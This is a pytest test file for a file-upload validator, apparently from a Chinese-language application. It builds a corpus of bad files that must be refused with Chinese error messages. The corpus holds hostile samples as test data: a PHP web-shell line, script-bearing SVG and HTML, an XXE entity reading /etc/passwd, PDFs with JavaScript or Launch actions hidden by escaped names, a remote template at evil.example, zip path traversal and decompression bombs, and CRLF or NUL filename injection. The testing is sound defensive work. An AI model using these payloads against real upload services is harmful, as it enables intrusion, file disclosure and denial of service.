"""What may be uploaded (security checklist 19–23, 25, 28): a corpus of bad files, each refused with its sentence."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from app.errors import Invalid
from app.rules import pdf_probe, upload_pdf
from app.rules.upload import MEDIA_TYPES, Inspected, UploadPolicy, inspect, spool
from app.rules.upload_image import PHOTO_SIZE, photo

POLICY = UploadPolicy(types=("png", "jpg", "pdf", "doc", "docx", "xlsx"), max_mb=3, max_count=10)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def image(
    kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", color: object = 128, **options: object
) -> bytes:
    out = BytesIO()
    Image.new(mode, size, color).save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change is not None:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def types_part(main: str, more: str = "") -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/main.xml" ContentType="{main}"/>{more}</Types>'
    )


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def package(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def docx(more: dict[str, str | bytes] | None = None, types: str = types_part(WORD)) -> bytes:
    return package({"[Content_Types].xml": types, "word/document.xml": "<w:document xmlns:w='w'/>"} | (more or {}))


def relations(kind: str, target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def doc(flags: int = 0, rest: bytes = b"") -> bytes:
    """The outline of a compound file: header sector, directory names, the header of the Word document."""
    directory = "Root Entry".encode("utf-16-le").ljust(128, b"\0") + "WordDocument".encode("utf-16-le").ljust(128, b"\0")
    fib = (b"\xec\xa5" + bytes(8) + struct.pack("<H", flags)).ljust(512, b"\0")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + directory.ljust(512, b"\0") + fib + rest


def check(data: bytes, name: str, policy: UploadPolicy = POLICY) -> Inspected:
    return inspect(data, name, policy)


# What is good

@pytest.mark.parametrize(("data", "name", "media_type"), [
    (image("JPEG"), "身份证正面.JPG", "image/jpeg"),
    (image("JPEG"), "photo.jpeg", "image/jpeg"),
    (image("PNG"), "教师资格证.png", "image/png"),
    (pdf(), "总结报告.pdf", "application/pdf"),
    (docx(), "承诺书.docx", MEDIA_TYPES["docx"]),
    (package({"[Content_Types].xml": types_part(SHEET), "xl/workbook.xml": "<workbook/>"}), "表.xlsx", MEDIA_TYPES["xlsx"]),
    (doc(), "承诺书.doc", "application/msword"),
])
def test_good_files_pass_with_the_type_of_their_content(data: bytes, name: str, media_type: str) -> None:
    result = check(data, name)
    assert result.media_type == media_type
    assert result.clean_name.endswith(f".{result.extension}")


def test_images_keep_the_picture_and_lose_what_was_said_about_it() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # turned by a quarter
    exif[ExifTags.Base.Make] = "SecretCamera"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[1] = "N"
    data = image("JPEG", (60, 40), exif=exif.tobytes(), comment=b"SecretComment") + b"<?php SecretTail(); ?>"
    kept = check(data, "a.jpg").data
    with Image.open(BytesIO(kept)) as picture:
        assert picture.size == (40, 60)
        assert not picture.getexif()
        assert "comment" not in picture.info
    assert b"Secret" in data
    assert b"Secret" not in kept


def test_png_text_and_tail_are_dropped_and_transparency_kept() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "SecretAuthor")
    kept = check(image("PNG", mode="RGBA", color=(9, 9, 9, 128), pnginfo=info) + b"<script>Secret</script>", "a.png").data
    assert b"Secret" not in kept
    with Image.open(BytesIO(kept)) as picture:
        assert picture.mode == "RGBA"
        assert picture.getpixel((0, 0))[3] == 128


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_can_be_kept(mode: str) -> None:
    with Image.open(BytesIO(check(image("PNG", mode=mode), "a.png").data)) as picture:
        assert picture.size == (60, 40)


def test_a_cmyk_jpeg_becomes_rgb() -> None:
    with Image.open(BytesIO(check(image("JPEG", mode="CMYK"), "a.jpg").data)) as picture:
        assert picture.mode == "RGB"


@pytest.mark.parametrize(("kind", "extension"), [("JPEG", "jpg"), ("PNG", "png")])
def test_a_photo_is_cut_to_two_inches(kind: str, extension: str) -> None:
    with Image.open(BytesIO(photo(image(kind, (900, 900)), extension))) as picture:
        assert (picture.format, picture.size) == ("JPEG", PHOTO_SIZE)
    with Image.open(BytesIO(photo(image(kind, (300, 420)), extension, fit=False))) as picture:
        assert picture.size == (300, 420)


def test_a_pdf_with_links_bookmarks_and_an_opening_view_is_fine() -> None:
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.org/"))
        writer.add_outline_item("一", 0)
        writer.open_destination = "/Fit"
        names = DictionaryObject({NameObject("/Names"): ArrayObject()})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"): names})

    assert check(pdf(change), "a.pdf").media_type == "application/pdf"


def test_a_word_document_with_formulas_charts_and_a_local_template_is_fine() -> None:
    data = docx({
        "word/embeddings/oleObject1.bin": b"MathType", "word/embeddings/chart1.xlsx": b"PK\x03\x04",
        "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\li\\Normal.dotm"),
        "word/_rels/document.xml.rels": relations("hyperlink", "https://example.org/"),
    })
    assert check(data, "a.docx").data == data


# What is bad

def cyclic_pages(writer: PdfWriter) -> None:
    pages = writer._root_object["/Pages"]
    pages[NameObject("/Kids")] = ArrayObject([writer._root_object.raw_get("/Pages")])


def action(kind: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        what = NameObject("/JS" if kind == "/JavaScript" else "/F")
        launch = DictionaryObject({NameObject("/S"): NameObject(kind), what: TextStringObject("cmd.exe")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)

    return change


def hidden_script(data: bytes) -> bytes:
    """The same action with an escaped name, which a search of the bytes does not find."""
    assert b"/JavaScript" in data
    return data.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4aS")


def bomb_png(side: int) -> bytes:
    """A picture of side² black pixels in a few kilobytes."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (side + 7) // 8)
    body = b"".join(packer.compress(row) for _ in range(min(side, 4000))) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def overlapping() -> bytes:
    """Two directory entries over the same stored bytes (a zip of this kind can claim petabytes)."""
    data = package({"[Content_Types].xml": types_part(WORD), "word/document.xml": "x" * 3_000_000}, zipfile.ZIP_STORED)
    start = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[start:end].replace(b"word/document.xml", b"word/documen2.xml")
    tail = bytearray(data[end:])
    count, size = struct.unpack_from("<H", tail, 10)[0], struct.unpack_from("<I", tail, 12)[0]
    struct.pack_into("<HHI", tail, 8, count + 1, count + 1, size + len(entry))
    return data[:end] + entry + bytes(tail)


def encrypted_member() -> bytes:
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + offset] |= 1
    return bytes(data)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ENTITIES = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w">&a;</w:document>'
BIG = b"\0" * (3 * 1024 * 1024 + 1)

CORPUS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # name: (content, file name, part of the sentence)
    "nothing": (lambda: b"", "a.pdf", "空的（0 字节）"),
    "one byte too many": (lambda: b"%PDF-1.4" + BIG, "a.pdf", "文件超过 3MB"),
    "type not asked for": (lambda: b"MZ", "setup.exe", "不能上传“.exe”文件"),
    "no extension": (image, "photo", "没有扩展名"),
    "extension behind an image": (image, "photo.jpg.php", "不能上传“.php”文件"),
    "svg as png": (lambda: SVG, "a.png", "内容却像是|内容不是png"),
    "svg by its own name": (lambda: SVG, "a.svg", "不能上传“.svg”文件"),
    "html as pdf": (lambda: HTML, "a.pdf", "内容却像是|内容不是pdf"),
    "html as jpg": (lambda: HTML, "a.jpg", "内容却像是|内容不是jpg"),
    "php as jpg": (lambda: b"<?php system($_GET['c']); ?>", "a.jpg", "内容却像是|内容不是jpg"),
    "jpeg as png": (lambda: image("JPEG"), "a.png", "内容却像是jpg格式"),
    "gif as jpg": (lambda: image("GIF", mode="P"), "a.jpg", "内容却像是gif格式"),
    "pdf as docx": (pdf, "a.docx", "内容却像是pdf格式"),
    "program as doc": (lambda: b"MZ\x90\x00" + bytes(600), "a.doc", "内容却像是|内容不是doc"),
    "html with a pdf head": (lambda: b"%PDF-1.4\n" + HTML, "a.pdf", "PDF 无法打开"),
    "html with a pdf head and tail": (lambda: b"%PDF-1.4\n" + HTML + b"\n%%EOF", "a.pdf", "PDF 无法打开"),
    "pdf behind html": (lambda: HTML + pdf(), "a.pdf", "内容却像是|内容不是pdf"),
    "zip behind pdf": (lambda: pdf() + package({"a.class": b"\xca\xfe\xba\xbe" * 900}, zipfile.ZIP_STORED), "a.pdf", "PDF 无法打开"),
    "pdf cut short": (lambda: pdf(pages=50)[:-1200], "a.pdf", "PDF 无法打开"),
    "pdf locked": (lambda: pdf(lambda w: w.encrypt("secret", algorithm="AES-256")), "a.pdf", "设有密码"),
    "pdf locked for printing only": (lambda: pdf(lambda w: w.encrypt("", "owner", algorithm="AES-256")), "a.pdf", "设有密码"),
    "pdf with script": (lambda: pdf(action("/JavaScript")), "a.pdf", "脚本、自动运行的动作或附带的文件"),
    "pdf with hidden script": (lambda: hidden_script(pdf(action("/JavaScript"))), "a.pdf", "脚本、自动运行"),
    "pdf that launches": (lambda: pdf(action("/Launch")), "a.pdf", "脚本、自动运行"),
    "pdf that submits": (lambda: pdf(action("/SubmitForm")), "a.pdf", "脚本、自动运行"),
    "pdf with a file inside": (lambda: pdf(lambda w: w.add_attachment("a.exe", b"MZ")), "a.pdf", "附带的文件"),
    "pdf without pages": (lambda: pdf(pages=0), "a.pdf", "没有页面|无法打开"),
    "pdf whose pages contain themselves": (lambda: pdf(cyclic_pages), "a.pdf", "PDF"),
    "jpeg cut short": (lambda: image(size=(600, 600))[:-300], "a.jpg", "图片无法打开"),
    "png cut short": (lambda: image("PNG", mode="RGB", size=(600, 600))[:-30], "a.png", "图片无法打开"),
    "only a jpeg head": (lambda: b"\xff\xd8\xff\xe0" + bytes(100), "a.jpg", "图片无法打开"),
    "only a png head": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "a.png", "图片无法打开"),
    "picture of 400 million pixels": (lambda: bomb_png(20_000), "a.png", "像素太多"),
    "picture of 3.6 billion pixels": (lambda: bomb_png(60_000), "a.png", "像素太多"),
    "strip of 30,000 pixels": (lambda: image("PNG", (30_000, 2), "1"), "a.png", "像素太多"),
    "zip as docx": (lambda: package({"a.txt": "x"}), "a.docx", "内容不是docx文档"),
    "xlsx as docx": (lambda: package({"[Content_Types].xml": types_part(SHEET), "xl/workbook.xml": ""}), "a.docx", "内容不是docx"),
    "docx cut short": (lambda: docx()[:-40], "a.docx", "文档无法打开"),
    "docx with macros": (lambda: docx({"word/vbaProject.bin": b"x"}), "a.docx", "宏、控件、附带的文件"),
    "docm renamed": (lambda: docx(types=types_part("application/vnd.ms-word.document.macroEnabled.main+xml")), "a.docx", "宏、控件"),
    "docx with a program": (lambda: docx({"word/embeddings/setup.exe": b"MZ"}), "a.docx", "宏、控件、附带的文件"),
    "docx with a wrapped file": (
        lambda: docx({"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), "a.docx", "附带的文件"),
    "docx with a control": (lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "宏、控件"),
    "docx with a remote template": (
        lambda: docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/x.dotm")}),
        "a.docx", "指向外部的模板"),
    "docx with a template on a share": (
        lambda: docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\evil\\x.dotm")}), "a.docx", "指向外部的模板"),
    "docx with entities": (lambda: docx({"word/document.xml": ENTITIES}), "a.docx", "宏、控件"),
    "docx with entities in utf-16": (lambda: docx({"word/footer.xml": ENTITIES.encode("utf-16")}), "a.docx", "宏、控件"),
    "docx that unpacks to 200 MB": (lambda: docx({"word/media/a.bmp": bytes(200 * 1024 * 1024)}), "a.docx", "解压后过大"),
    "docx that packs 1,000 to 1": (lambda: docx({"word/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}), "a.docx", "解压后过大"),
    "docx of 5,000 parts": (lambda: docx({f"word/{n}.xml": "<a/>" for n in range(5000)}), "a.docx", "解压后过大"),
    "docx of overlapping parts": (overlapping, "a.docx", "解压后过大"),
    "docx that climbs": (lambda: docx({"../../etc/cron.d/x": "x"}), "a.docx", "文档无法打开"),
    "docx that climbs backwards": (lambda: docx({"..\\..\\x": "x"}), "a.docx", "文档无法打开"),
    "docx with an absolute part": (lambda: docx({"/etc/x": "x"}), "a.docx", "文档无法打开"),
    "docx with a locked part": (encrypted_member, "a.docx", "设有打开密码"),
    "doc that is no document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "a.doc", "内容不是doc文档"),
    "doc with macros": (lambda: doc(rest="_VBA_PROJECT".encode("utf-16-le")), "a.doc", "宏、控件"),
    "doc with a wrapped file": (lambda: doc(rest="\x01Ole10Native".encode("utf-16-le")), "a.doc", "附带的文件"),
    "doc locked": (lambda: doc(flags=0x0100), "a.doc", "打开密码"),
    "docx locked by Office": (lambda: doc(rest="EncryptedPackage".encode("utf-16-le")), "a.doc", "打开密码"),
    "name with NUL": (image, "a.php\0.jpg", "看不见的控制字符"),
    "name written backwards": (image, "a\u202egpj.exe.jpg", "看不见的控制字符"),
    "name with a line feed": (image, "a\r\nSet-Cookie: x.jpg", "看不见的控制字符"),
    "name with a zero-width space": (image, "a\u200b.jpg", "看不见的控制字符"),
    "name with a path": (image, "../../etc/passwd.jpg", "不能有“/”"),
    "name with a Windows path": (image, "C:\\x\\a.jpg", "不能有“/”"),
    "name of 121 characters": (image, "名" * 117 + ".jpg", "文件名太长"),
    "name of nothing": (image, ".jpg", "没有扩展名|没有名称"),
    "name of dots": (image, "....jpg", "没有扩展名|没有名称"),
    "empty name": (image, "", "没有名称"),
}


@pytest.mark.parametrize("case", CORPUS)
def test_bad_uploads_are_refused_with_a_sentence(case: str) -> None:
    make, name, sentence = CORPUS[case]
    data = make()
    with pytest.raises(Invalid, match=sentence) as refusal:
        check(data, name)
    assert refusal.value.message.endswith("。")


def test_the_slot_decides_which_types_it_takes() -> None:
    with pytest.raises(Invalid, match=r"不能上传“\.docx”文件，请上传pdf、png格式"):
        check(docx(), "a.docx", UploadPolicy(types=("pdf", "png")))


@pytest.mark.parametrize("settings", [
    {"types": ()}, {"types": ("exe",)}, {"types": ("svg", "png")}, {"max_mb": 0}, {"max_count": 0},
])
def test_a_policy_cannot_allow_what_is_not_checked(settings: dict[str, object]) -> None:
    with pytest.raises(ValueError, match="not an upload policy"):
        UploadPolicy(**settings)  # type: ignore[arg-type]


def test_the_hint_reads_as_in_the_manual() -> None:
    policy = UploadPolicy(types=("png", "pdf", "JPEG"), max_mb=3, max_count=10)
    assert policy.hint == "只能上传png/pdf/jpg文件，且不超过3MB，且最多只能上传10个文件"
    assert policy.accept == ".png,.pdf,.jpg,.jpeg"


class Endless(io.RawIOBase):
    """An upload that never ends; counts what was taken from it."""

    taken = 0

    def read(self, size: int = -1, /) -> bytes:
        self.taken += size
        return b"x" * size


def test_reading_stops_at_the_limit() -> None:
    endless = Endless()
    with pytest.raises(Invalid, match="超过 3MB"):
        spool(endless, POLICY)  # type: ignore[arg-type]
    assert endless.taken <= POLICY.max_bytes + 128 * 1024


def test_a_spooled_upload_is_inspected_like_bytes() -> None:
    with spool(BytesIO(image()), POLICY) as spooled:
        assert inspect(spooled, "a.jpg", POLICY).extension == "jpg"


def test_a_scanner_sees_the_bytes_as_sent_and_its_finding_refuses_the_file() -> None:
    def scan(data: bytes) -> str | None:
        return "Eicar-Signature" if EICAR in data else None

    data = image() + EICAR  # re-encoding would drop it
    assert inspect(data, "a.jpg", POLICY).extension == "jpg"
    with pytest.raises(Invalid, match="病毒检查") as refusal:
        inspect(data, "a.jpg", POLICY, scan)
    assert refusal.value.details == {"found": "Eicar-Signature"}


def test_a_scanner_that_fails_lets_nothing_through() -> None:
    def scan(data: bytes) -> str | None:
        raise ConnectionError("no scanner")

    with pytest.raises(ConnectionError):
        inspect(image(), "a.jpg", POLICY, scan)


def test_a_pdf_that_keeps_the_parser_busy_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(upload_pdf, "SECONDS", 0.01)
    with pytest.raises(Invalid, match="没有在规定时间内完成"):
        check(pdf(), "a.pdf")


def test_the_probe_looks_at_objects_nobody_refers_to() -> None:
    def change(writer: PdfWriter) -> None:
        writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript")}))

    data = hidden_script(pdf(change).replace(b"/JavaScript", b"/JavaScript /JS"))
    assert len(PdfReader(BytesIO(data)).pages) == 1
    assert pdf_probe.verdict(data) in {"active", "damaged"}
